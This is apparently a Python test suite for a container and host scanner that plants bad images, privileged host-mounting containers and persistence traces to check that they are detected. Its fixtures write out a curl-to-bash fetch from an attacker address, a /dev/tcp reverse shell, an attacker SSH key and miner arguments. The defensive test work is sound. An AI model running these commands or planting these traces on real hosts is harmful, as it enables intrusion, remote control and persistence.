"""`lazaret check`: bad images and containers planted in real stores of Docker, Podman and containerd, and what such images leave on a host."""
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import time

import support  # first: it sets the path
import images
import incident_2018
import jsonschema
from engine_support import containerd, docker_daemon

for program in ("skopeo", "podman"):
    if shutil.which(program) is None or os.geteuid() != 0:
        print(f"skipped: {program} is not installed or needs root")
        sys.exit(support.SKIP)


def check(*arguments, expect=None, form="json"):
    """Runs `lazaret check` and returns its report, validated."""
    command = [support.LAZARET, "check", "--format", form, "--no-cache", *arguments]
    done = subprocess.run(command, capture_output=True, text=True, timeout=600)
    if expect is not None and done.returncode != expect:
        raise AssertionError(f"{' '.join(command)}: exit code {done.returncode}, not {expect}\n{done.stdout[:3000]}\n{done.stderr[:2000]}")
    if form != "json":
        return done.stdout
    report = json.loads(done.stdout) if done.stdout.strip() else None
    if report is not None:
        jsonschema.validate(report, json.loads((support.ROOT / "docs" / "check.schema.json").read_text()))
        findings = json.loads((support.ROOT / "docs" / "report.schema.json").read_text())
        finding = {"$defs": findings["$defs"], "$ref": "#/$defs/finding"}
        for subject in report["subjects"]:
            for one in subject["findings"]:
                jsonschema.validate(one, finding)
    return report


def rules(report, kind, name=None):
    """The rules that fired, by subject of that kind."""
    return {f["rule"] for s in report["subjects"] if s["kind"] == kind and (name is None or s["name"] == name) for f in s["findings"]}


def subject(report, kind, name):
    found = [s for s in report["subjects"] if s["kind"] == kind and s["name"] == name]
    assert len(found) == 1, f"{kind} {name}: {[(s['kind'], s['name']) for s in report['subjects']]}"
    return found[0]


BAD = "docker.io/docker123321/tomcat:1"
OTHER_NAME = "registry.example/shop/web:7"
BUILT_ON = "registry.example/shop/app:2"
CLEAN = "registry.example/base/clean:1"


PAUSE = "#include <unistd.h>\nint main(void) { for (;;) pause(); }\n"


def pause_program(folder):
    """A program that waits, whatever its arguments are, and needs no library."""
    with open(f"{folder}/pause.c", "w") as out:
        out.write(PAUSE)
    support.run("gcc", "-static", "-O2", "-s", "-o", f"{folder}/pause", f"{folder}/pause.c")
    with open(f"{folder}/pause", "rb") as program:
        return program.read()


INERT_MINER = "registry.example/shop/cache:3"  # one of 2018's, under a name that nobody knows


def archives(folder):
    """Archives of a bad image, of the same under another name, of one built on it, and of a clean one that shares its lowest layer."""
    base = images.layer(images.File("etc/motd", "welcome\n"), images.File("pause", pause_program(folder), mode=0o755))
    job = images.layer(images.File("opt/run.sh", "#!/bin/sh\nexec sleep 60\n", mode=0o755))
    step = lambda text: {"created": "2018-01-01T00:00:00Z", "created_by": text}
    history = [step("ADD base /"), step("COPY run.sh /opt")]
    bad = images.Image([base, job], entrypoint=["/opt/run.sh"], history=history)
    built = images.Image([base, job, images.layer(images.File("opt/app", "app\n"))], cmd=["/opt/app"], history=history + [step("COPY app /opt")])
    clean = images.Image([base], cmd=["/bin/true"], history=history[:1])
    result = {}
    for name, image in ((BAD, bad), (BUILT_ON, built), (CLEAN, clean), (INERT_MINER, incident_2018.images()["cronm"][0])):
        layout = f"{folder}/layout-{len(result)}"
        images.write_layout(layout, {"latest": image})
        result[name] = f"{folder}/{len(result)}.tar"
        support.run("skopeo", "--insecure-policy", "copy", "-q", f"oci:{layout}:latest", f"docker-archive:{result[name]}:{name}")
    return result


def expect_deep(shallow, deep, store):
    """The miner under an unknown name, and its container, are found by their content alone."""
    assert subject(shallow, "image", INERT_MINER)["verdict"] == "clean", subject(shallow, "image", INERT_MINER)
    assert subject(deep, "image", INERT_MINER)["verdict"] == "malicious"
    assert "miner.program" in rules(deep, "image", INERT_MINER), rules(deep, "image", INERT_MINER)
    assert "known-bad.container" in rules(deep, "container", "hidden"), rules(deep, "container", "hidden")
    assert subject(deep, "image", CLEAN)["verdict"] == "clean", subject(deep, "image", CLEAN)
    assert not [s["name"] for s in deep["subjects"] if s["coverage"]["incomplete"]], [(s["name"], s["coverage"]) for s in deep["subjects"]]


def expect_planted(report, store):
    """What must be said of the images and containers that `plant` puts into a store."""
    assert report["verdict"] == "malicious", report["verdict"]
    stored = {s["name"]: {f["rule"] for f in s["findings"]} for s in report["subjects"] if s["kind"] == "image" and s["store"] == store}
    assert "known-bad.image-name" in stored[BAD], stored
    assert "known-bad.built-on" in stored[BUILT_ON], stored
    assert stored[CLEAN] == set(), stored
    containers = {s["name"]: s for s in report["subjects"] if s["kind"] == "container" and s["store"] == store}
    found = {name: {f["rule"] for f in s["findings"]} for name, s in containers.items()}
    assert "known-bad.container" in found["bad"], found
    assert found["innocent"] == set(), found
    assert {"container-escape.privileged-container", "container-escape.host-mount"} <= found["takeover"], found
    assert {"dropper.fetch-and-run-address"} & found["takeover"], found
    assert containers["innocent"]["verdict"] == "clean" and containers["bad"]["verdict"] == "malicious"
    return containers


TAKEOVER = ["sh", "-c", "curl -s http://203.0.113.196:8220/logo3.jpg | bash -s"]


def test_a_podman_store():
    with support.temporary_folder() as folder:
        os.makedirs(f"{folder}/root")
        files = archives(folder)
        for driver in ("overlay", "vfs"):
            root = f"{folder}/{driver}"
            podman = ["podman", "--root", root, "--runroot", f"{folder}/{driver}-run", "--storage-driver", driver]
            if subprocess.run(podman + ["load", "-q", "-i", files[BAD]], capture_output=True).returncode != 0:
                print(f"skipped: podman cannot use the driver {driver} here")
                continue
            try:
                for name in (BUILT_ON, CLEAN, INERT_MINER):
                    support.run(*podman, "load", "-q", "-i", files[name])
                support.run(*podman, "create", "--name", "hidden", INERT_MINER)
                support.run(*podman, "create", "--name", "bad", BAD)
                support.run(*podman, "create", "--name", "innocent", "-v", f"{folder}/root:/data", CLEAN, "/bin/true")
                support.run(*podman, "create", "--name", "takeover", "--privileged", "-v", "/:/mnt", CLEAN, *TAKEOVER)
                report = check("--root", f"{folder}/root", "--podman-root", root, expect=1)
                expect_planted(report, "podman")
                assert not report["not_looked_at"], report["not_looked_at"]
                expect_deep(report, check("--root", f"{folder}/root", "--podman-root", root, "--deep", expect=1), "podman")
                # The same store where a host has it, and in the home of a user.
                for place in ("var/lib/containers", "home/alice/.local/share/containers"):
                    host = f"{folder}/host-{driver}"
                    os.makedirs(f"{host}/{place}")
                    os.makedirs(f"{host}/etc")
                    with open(f"{host}/etc/passwd", "w") as out:
                        out.write("alice:x:1000:1000::/home/alice:/bin/bash\n")
                    os.rename(root, f"{host}/{place}/storage")
                    report = check("--root", host, expect=1)
                    os.rename(f"{host}/{place}/storage", root)
                    shutil.rmtree(host)
                    expect_planted(report, "podman")
                # Under its own name nothing is known of it; what the incident says of a layer and of a digest is.
                support.run(*podman, "rm", "-f", "bad")
                support.run(*podman, "tag", BAD, OTHER_NAME)
                support.run(*podman, "untag", BAD, BAD)
                report = check("--root", f"{folder}/root", "--podman-root", root)
                assert subject(report, "image", OTHER_NAME)["verdict"] == "clean"
                image = json.loads(support.run(*podman, "image", "inspect", OTHER_NAME))[0]
                for kind, entry in (("known-bad.image-layer", f'[[indicator]]\ntype = "layer"\nvalue = "{image["RootFS"]["Layers"][1]}"\n'),
                                    ("known-bad.image-digest", f'[[image]]\nrepository = "registry.example/x/y"\ndigest = "{image["Digest"]}"\n'),
                                    ("known-bad.image-digest", f'[[image]]\nrepository = "registry.example/x/y"\ndigest = "sha256:{image["Id"]}"\n')):
                    with open(f"{folder}/own.toml", "w") as out:
                        out.write('id = "own"\ntitle = "Own"\nfirst_seen = "2026"\n' + entry + 'confidence = "high"\nsource = "us"\n')
                    report = check("--root", f"{folder}/root", "--podman-root", root, "--incident-file", f"{folder}/own.toml", expect=1)
                    assert kind in rules(report, "image", OTHER_NAME), (kind, rules(report, "image"))
                    assert rules(report, "image", CLEAN) == set()
            finally:
                subprocess.run(["umount", f"{root}/overlay"], capture_output=True)


def test_a_docker_store():
    if shutil.which("dockerd") is None:
        print("skipped: dockerd is not installed")
        return
    for driver in ("overlay2", "vfs"):
        with support.temporary_folder() as folder:
            os.makedirs(f"{folder}/root")
            files = archives(folder)
            with docker_daemon(folder, driver) as docker:
                if docker is None:
                    print(f"skipped: dockerd does not start here with {driver}")
                    continue
                for name in (BAD, BUILT_ON, CLEAN, INERT_MINER):
                    support.run(*docker, "load", "-i", files[name])
                support.run(*docker, "create", "--name", "hidden", INERT_MINER)
                running = subprocess.run([*docker, "run", "-d", "--network", "none", "--name", "running", CLEAN, "/pause"], capture_output=True, text=True)
                support.run(*docker, "create", "--name", "bad", BAD)
                support.run(*docker, "create", "--name", "innocent", "-v", f"{folder}/root:/data", CLEAN, "/bin/true")
                support.run(*docker, "create", "--name", "takeover", "--privileged", "-v", "/:/mnt", CLEAN, *TAKEOVER)
                while_running = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1)
                containers = expect_planted(while_running, "docker")
                assert containers["bad"]["state"] == "stopped"
                if running.returncode == 0:
                    assert containers["running"]["state"] == "running" and not containers["running"]["findings"], containers["running"]
                    support.run(*docker, "kill", "running")
                else:
                    print(f"skipped: docker runs no container here: {running.stderr[-200:]}")
                assert not while_running["not_looked_at"], while_running["not_looked_at"]
            # Its files are enough.
            stopped = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1)
            expect_planted(stopped, "docker")
            expect_deep(stopped, check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", "--deep", expect=1), "docker")
            table = check("--root", f"{folder}/root", "--docker-root", f"{folder}/docker", expect=1, form="table")
            assert "MALICIOUS" in table and BAD in table, table


def test_a_containerd_store():
    if shutil.which("containerd") is None:
        print("skipped: containerd is not installed")
        return
    with support.temporary_folder() as folder:
        os.makedirs(f"{folder}/root")
        files = archives(folder)
        with containerd(folder) as (ctr, _):
            if ctr is None:
                print("skipped: containerd does not start here")
                return
            for name in (BAD, BUILT_ON, CLEAN, INERT_MINER):
                support.run(*ctr, "images", "import", files[name])
            support.run(*ctr, "containers", "create", INERT_MINER, "hidden")
            support.run(*ctr, "containers", "create", BAD, "bad")
            support.run(*ctr, "containers", "create", "--mount", f"type=bind,src={folder}/root,dst=/data,options=rbind:rw", CLEAN, "innocent", "/bin/true")
            support.run(*ctr, "containers", "create", "--privileged", "--mount", "type=bind,src=/,dst=/mnt,options=rbind:rw", "--", CLEAN, "takeover", *TAKEOVER)
            report = check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", expect=1)
            expect_planted(report, "containerd")
            expect_deep(report, check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", "--deep", expect=1), "containerd")
            # An image that nobody knows, and a crontab of the host that names the same address: the one left the other.
            images.write_layout(f"{folder}/layout-db", {"latest": incident_2018.images()["mysql"][0]})
            support.run("skopeo", "--insecure-policy", "copy", "-q", f"oci:{folder}/layout-db:latest", f"docker-archive:{folder}/db.tar:registry.example/shop/db:1")
            support.run(*ctr, "images", "import", f"{folder}/db.tar")
            os.makedirs(f"{folder}/host/etc")
            with open(f"{folder}/host/etc/crontab", "w") as out:
                out.write(incident_2018.FETCH_CRON + "\n")
            for deep, tied in (([], False), (["--deep"], True)):
                found = rules(check("--root", f"{folder}/host", "--containerd-root", f"{folder}/containerd", *deep, expect=1), "files")
                assert ("known-bad.shared-indicator" in found) == tied, (deep, found)
            assert not report["not_looked_at"], report["not_looked_at"]
        expect_planted(check("--root", f"{folder}/root", "--containerd-root", f"{folder}/containerd", expect=1), "containerd")


FETCH = "curl -s http://203.0.113.196:8220/logo3.jpg | bash -s"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGtra2tra2tra2tra2tra2tra2tra2tra2tra2tra2tr root@attacker"
PASSWD = "root:x:0:0:root:/root:/bin/bash\nnews:x:9:9:news:/var/spool/news:/usr/sbin/nologin\n"
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)

# What a trace is, the files it consists of, what is said, and the least verdict.
TRACES = [
    ("a line in /etc/crontab without its user, as in 2018", {"etc/crontab": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
    ("a job in /etc/cron.d", {"etc/cron.d/job": f"* * * * * root {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
    ("a script that cron runs", {"etc/cron.daily/job": f"#!/bin/sh\n{FETCH}\n"}, "dropper.fetch-and-run-address", "malicious"),
    ("the spool of Debian's cron", {"var/spool/cron/crontabs/root": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
    ("the spool of Red Hat's cron", {"var/spool/cron/root": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
    ("busybox's crontabs", {"etc/crontabs/root": f"* * * * * {FETCH}\n"}, "persistence.cron-fetch", "malicious"),
    ("a job whose script does it", {"etc/cron.d/job": "* * * * * root /opt/u.sh\n", "opt/u.sh": f"#!/bin/sh\n{FETCH}\n"}, "dropper.fetch-and-run-address", "malicious"),
    ("a reverse shell as a unit", {"etc/systemd/system/x.service": '[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n'}, "reverse-shell.dev-tcp", "malicious"),
    ("root's key", {"root/.ssh/authorized_keys": KEY + "\n"}, "persistence.authorized-keys", "clean"),
    ("a key of a system account", {"var/spool/news/.ssh/authorized_keys": KEY + "\n"}, "persistence.key-of-system-account", "suspicious"),
    ("a key that runs a command", {"root/.ssh/authorized_keys": f'command="{FETCH}" {KEY}\n'}, "dropper.fetch-and-run-address", "malicious"),
    ("a preloaded library", {"etc/ld.so.preload": "/usr/local/lib/libprocesshider.so\n"}, "persistence.preload-library", "suspicious"),
    ("a hidden program in /tmp", {"tmp/.ICE/run": ELF}, "impersonation.hidden-executable", "suspicious"),
    ("a hidden program in /var/tmp", {"var/tmp/.run": ELF}, "impersonation.hidden-executable", "suspicious"),
    ("a hidden program in /dev/shm", {"dev/shm/.a/b/run": ELF}, "impersonation.hidden-executable", "suspicious"),
    ("the miner of 2018", {"var/tmp/jaav": ELF}, "known-bad.file-path", "suspicious"),
    ("an open Docker API in daemon.json", {"etc/docker/daemon.json": '{"hosts": ["tcp://0.0.0.0:2375"]}'}, "container-escape.exposed-engine", "suspicious"),
    ("an open Docker API in a drop-in", {"etc/systemd/system/docker.service.d/x.conf": "[Service]\nExecStart=\nExecStart=/usr/sbin/dockerd -H tcp://0.0.0.0:2375\n"}, "container-escape.exposed-engine",
     "suspicious"),
]


def test_each_trace_in_a_prepared_root():
    for what, files, rule, verdict in TRACES:
        with support.temporary_folder() as folder:
            for path, content in {"etc/passwd": PASSWD, **files}.items():
                os.makedirs(os.path.dirname(f"{folder}/{path}"), exist_ok=True)
                with open(f"{folder}/{path}", "wb") as out:
                    out.write(content if isinstance(content, bytes) else content.encode())
                os.chmod(f"{folder}/{path}", 0o755 if isinstance(content, bytes) or content.startswith("#!") else 0o644)
            report = check("--root", folder, expect=1 if verdict == "malicious" else 0)
            found = {f["rule"] for s in report["subjects"] for f in s["findings"]}
            assert rule in found, f"{what}: {found}"
            assert report["verdict"] == verdict, f"{what}: {report['verdict']}"
            # And without it there is nothing.
            for path in files:
                os.unlink(f"{folder}/{path}")
            report = check("--root", folder, expect=0)
            assert report["verdict"] == "clean" and not report["subjects"], f"without {what}: {report}"


def test_a_clean_debian_is_silent():
    if shutil.which("mmdebstrap") is None:
        print("skipped: mmdebstrap is not installed")
        return
    with support.temporary_folder() as folder:
        made = subprocess.run(["mmdebstrap", "--variant=important", "--mode=root", "--include=openssh-server,cron,systemd-sysv,logrotate,man-db", "bookworm", f"{folder}/debian"], capture_output=True, text=True)
        if made.returncode != 0:
            print(f"skipped: mmdebstrap makes no Debian here: {made.stderr[-300:]}")
            return
        report = check("--root", f"{folder}/debian", "--deep", expect=0)
        assert report["verdict"] == "clean", (report["verdict"], report["reasons"], report["not_looked_at"])
        assert not report["subjects"], [(s["kind"], s["name"], [(f["rule"], f["location"]["path"], f["evidence"]) for f in s["findings"]], s["coverage"]["incomplete"]) for s in report["subjects"]]
        # And one line in it is found.
        with open(f"{folder}/debian/etc/crontab", "a") as out:
            out.write(f"* * * * * root {FETCH}\n")
        report = check("--root", f"{folder}/debian", expect=1)
        assert "persistence.cron-fetch" in rules(report, "files")
        # So is a program that is no longer its package's.
        shutil.copy(f"{folder}/debian/usr/bin/true", f"{folder}/debian/usr/bin/ps")
        assert "integrity.modified-security-file" in rules(check("--root", f"{folder}/debian", expect=1), "files")


@contextlib.contextmanager
def started(*arguments, **options):
    process = subprocess.Popen(*arguments, **options)
    time.sleep(0.3)  # until exec
    try:
        yield process
    finally:
        process.kill()
        process.wait()


def of_process(report, process):
    return {f["rule"] for s in report["subjects"] if s["kind"] == "process" and s["id"] == str(process.pid) for f in s["findings"]}


def test_processes_of_this_host():
    with support.temporary_folder() as folder:
        pause_program(folder)
        shutil.copy(f"{folder}/pause", f"{folder}/.run")
        shutil.copy(f"{folder}/pause", f"{folder}/gone")
        arguments = ["[kworker/0:1]", "-o", "stratum+tcp://pool.example:3333", "-u", incident_2018.WALLET, "-p", "x", "--donate-level", "1"]
        server = socket.create_server(("127.0.0.1", 0))
        client = socket.create_connection(server.getsockname())
        local, other = socket.socketpair()
        with started(["gone"], executable=f"{folder}/gone") as gone, started(["run"], executable=f"{folder}/.run") as hidden, started(arguments, executable=f"{folder}/pause") as miner, \
                started(["bash"], stdin=client, stdout=client, stderr=client) as shell, started(["bash"], stdin=local, stdout=local) as on_socketpair, \
                started(["bash", "-c", "read x"], stdin=subprocess.PIPE) as on_pipe:
            os.unlink(f"{folder}/gone")
            report = check()
            assert of_process(report, gone) == {"dropper.deleted-program"}, of_process(report, gone)
            assert of_process(report, hidden) == {"impersonation.hidden-executable"}, of_process(report, hidden)
            assert "miner.command-line" in of_process(report, miner), of_process(report, miner)
            assert of_process(report, shell) == {"reverse-shell.socket-streams"}, of_process(report, shell)
            assert of_process(report, on_socketpair) == set() and of_process(report, on_pipe) == set()
            assert report["verdict"] == "malicious", report["verdict"]
            # Whoever is not root is told what was not looked at.
            shutil.copy(support.LAZARET, f"{folder}/lazaret")
            os.chmod(folder, 0o755)
            done = subprocess.run([f"{folder}/lazaret", "check", "--format", "json", "--no-cache", "--fail-on", "never"], capture_output=True, text=True, user=65534, group=65534, extra_groups=[], cwd="/", env={"HOME": folder, "PATH": os.environ["PATH"]})
            assert done.returncode == 3, (done.returncode, done.stderr)
            assert any("run this as root" in part["why"] for part in json.loads(done.stdout)["not_looked_at"]), done.stdout[-1000:]
        for one in (server, client, local, other):
            one.close()


def test_mistakes_of_the_user():
    with support.temporary_folder() as folder:
        for arguments in (["--root", f"{folder}/none"], ["--root", folder, "--docker-root", f"{folder}/none"], ["--root", folder, "--docker-root", folder], ["--root", folder, "--incident-file", f"{folder}/none"],
                          ["--fail-on", "high"]):
            assert check(*arguments, expect=2) is None, arguments


if __name__ == "__main__":
    support.main(globals())
